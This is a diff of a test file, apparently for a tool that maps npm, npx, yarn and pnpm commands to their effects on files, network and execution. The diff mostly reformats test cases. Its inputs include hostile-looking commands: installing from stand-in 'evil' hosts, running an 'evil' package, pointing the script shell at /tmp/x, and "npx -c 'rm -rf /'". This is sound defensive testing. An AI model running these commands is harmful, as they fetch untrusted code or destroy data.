@@ -1,9 +1,18 @@
 import { expect, test } from 'bun:test';
-import { describe, withFiles } from '../testing/describe-reading.ts';
+import { PACKAGE_MANAGERS } from './package-managers.ts';
+import { describe, withFiles, rowOf } from '../testing/describe-reading.ts';
 
 const CONTEXT = withFiles({
-  '/p/package.json': JSON.stringify({"scripts":{"build":"tsc -p .","prebuild":"rm -rf dist","test":"jest","start":"node x.js","prepare":"husky"}}),
-  '/p/packages/web/package.json': JSON.stringify({"scripts":{"dev":"vite"}}),
+  '/p/package.json': JSON.stringify({
+    scripts: {
+      build: 'tsc -p .',
+      prebuild: 'rm -rf dist',
+      test: 'jest',
+      start: 'node x.js',
+      prepare: 'husky',
+    },
+  }),
+  '/p/packages/web/package.json': JSON.stringify({ scripts: { dev: 'vite' } }),
 });
 
 const CASES: readonly (readonly [command: string, reading: string])[] = [
@@ -11,32 +20,62 @@ const CASES: readonly (readonly [command: string, reading: string])[] = [
   ['npm ci', 'write workspace:/p, network get:registry.npmjs.org, script(husky)'],
   ['npm i lodash', 'write workspace:/p, network get:registry.npmjs.org'],
   ['npm i -g evil', 'write workspace:/p, network get:registry.npmjs.org, execute program:npm'],
-  ['npm i https://evil.example/x.tgz', 'write workspace:/p, network get:registry.npmjs.org, network get:https://evil.example/x.tgz, execute program:npm'],
-  ['npm i user/repo', 'write workspace:/p, network get:registry.npmjs.org, network get:github.com, execute program:npm'],
-  ['npm i ../x', 'write workspace:/p, network get:registry.npmjs.org, read tree:/x, execute program:npm'],
+  [
+    'npm i https://evil.example/x.tgz',
+    'write workspace:/p, network get:registry.npmjs.org, network get:https://evil.example/x.tgz, execute program:npm',
+  ],
+  [
+    'npm i user/repo',
+    'write workspace:/p, network get:registry.npmjs.org, network get:github.com, execute program:npm',
+  ],
+  [
+    'npm i ../x',
+    'write workspace:/p, network get:registry.npmjs.org, read tree:/x, execute program:npm',
+  ],
   ['npm run build', 'write workspace:/p, script(rm -rf dist), script(tsc -p .)'],
-  ['npm run build -- --watch', "write workspace:/p, script(rm -rf dist), script(tsc -p . '--watch')"],
+  [
+    'npm run build -- --watch',
+    "write workspace:/p, script(rm -rf dist), script(tsc -p . '--watch')",
+  ],
   ['npm test', 'write workspace:/p, script(jest)'],
   ['npm t', 'write workspace:/p, script(jest)'],
   ['npm run nothing', ''],
-  ['npm --prefix packages/web run dev', 'write workspace:/p/packages/web, script(vite @/p/packages/web)'],
+  [
+    'npm --prefix packages/web run dev',
+    'write workspace:/p/packages/web, script(vite @/p/packages/web)',
+  ],
   ['npm run dev -w packages/web', 'write workspace:/p, script(vite @/p/packages/web)'],
   ['npm run dev -w @a/web', 'write workspace:/p, script(vite @/p/packages/web)'],
   ['npm run build --workspaces', 'write workspace:/p, execute program:npm'],
-  ['npm publish', 'write workspace:/p, read workspace:/p, network put:registry.npmjs.org, script(husky)'],
+  [
+    'npm publish',
+    'write workspace:/p, read workspace:/p, network put:registry.npmjs.org, script(husky)',
+  ],
   ['npm unpublish x', 'network! delete:registry.npmjs.org'],
   ['npm exec tsc', 'write workspace:/p, network get:registry.npmjs.org, argv(tsc)'],
   ['npm ls', 'read workspace:/p'],
   ['npm audit fix', 'write workspace:/p, network get:registry.npmjs.org'],
   ['npm config set script-shell /tmp/x', 'write /home/u/.npmrc, execute program:npm'],
-  ['npm --script-shell=/tmp/x run build', 'execute program:/tmp/x, write workspace:/p, script(rm -rf dist), script(tsc -p .)'],
+  [
+    'npm --script-shell=/tmp/x run build',
+    'execute program:/tmp/x, write workspace:/p, script(rm -rf dist), script(tsc -p .)',
+  ],
   ['npm config get registry', 'read workspace:/p'],
   ['npx tsc --noEmit', 'write workspace:/p, network get:registry.npmjs.org, argv(tsc --noEmit)'],
   ['npx evil', 'write workspace:/p, network get:registry.npmjs.org, execute program:evil'],
   ['npx -p evil tsc', 'write workspace:/p, network get:registry.npmjs.org, execute program:tsc'],
-  ['npx eslint@npm:evil .', 'write workspace:/p, network get:registry.npmjs.org, execute program:eslint@npm:evil'],
-  ['npx prettier@3 --write .', 'write workspace:/p, network get:registry.npmjs.org, argv(prettier --write .)'],
-  ['npx -y create-x', 'write workspace:/p, network get:registry.npmjs.org, execute program:create-x'],
+  [
+    'npx eslint@npm:evil .',
+    'write workspace:/p, network get:registry.npmjs.org, execute program:eslint@npm:evil',
+  ],
+  [
+    'npx prettier@3 --write .',
+    'write workspace:/p, network get:registry.npmjs.org, argv(prettier --write .)',
+  ],
+  [
+    'npx -y create-x',
+    'write workspace:/p, network get:registry.npmjs.org, execute program:create-x',
+  ],
   ["npx -c 'rm -rf /'", 'write workspace:/p, network get:registry.npmjs.org, script(rm -rf /)'],
   ['yarn', 'write workspace:/p, network get:registry.npmjs.org, script(husky)'],
   ['yarn build', 'write workspace:/p, script(rm -rf dist), script(tsc -p .)'],
@@ -65,7 +104,10 @@ const CASES: readonly (readonly [command: string, reading: string])[] = [
   ['npm --silent run build', 'write workspace:/p, script(rm -rf dist), script(tsc -p .)'],
   ['npx --yes prettier .', 'write workspace:/p, network get:registry.npmjs.org, argv(prettier .)'],
   ['npm run dev', ''],
-  ['pnpm install --frozen-lockfile', 'write workspace:/p, network get:registry.npmjs.org, script(husky)'],
+  [
+    'pnpm install --frozen-lockfile',
+    'write workspace:/p, network get:registry.npmjs.org, script(husky)',
+  ],
   ['pnpm add -D x', 'write workspace:/p, network get:registry.npmjs.org'],
   ['pnpm add -w x', 'write workspace:/p, network get:registry.npmjs.org'],
   ['pnpm test', 'write workspace:/p, script(jest)'],
@@ -85,7 +127,10 @@ const CASES: readonly (readonly [command: string, reading: string])[] = [
   ['nvm install 20', 'write workspace:/p, network get:nodejs.org, execute program:nvm'],
   ['npm i ./local', 'write workspace:/p, network get:registry.npmjs.org, read tree:/p/local'],
   ['npm i x@npm:evil', 'write workspace:/p, network get:registry.npmjs.org'],
-  ['npm i x@https://evil/a.tgz', 'write workspace:/p, network get:registry.npmjs.org, network get:https://evil/a.tgz, execute program:npm'],
+  [
+    'npm i x@https://evil/a.tgz',
+    'write workspace:/p, network get:registry.npmjs.org, network get:https://evil/a.tgz, execute program:npm',
+  ],
   ['npm install $X', 'execute program:npm, write workspace:/p, network get:registry.npmjs.org'],
   ['npm --registry=https://evil i x', 'write workspace:/p, network get:https://evil'],
   ['npm install --ignore-scripts', 'write workspace:/p, network get:registry.npmjs.org'],
@@ -110,6 +155,10 @@ const CASES: readonly (readonly [command: string, reading: string])[] = [
   ['npx --package=typescript tsc', 'write workspace:/p, network get:registry.npmjs.org, argv(tsc)'],
 ];
 
-test.each(CASES)('%s', (command, reading) => {
+test.each(CASES)('%s has exactly its effects', (command, reading) => {
   expect(describe(command, CONTEXT)).toBe(reading);
+});
+
+test('package managers are in the table', () => {
+  expect(rowOf('pnpm')).toBe(PACKAGE_MANAGERS.pnpm);
 });
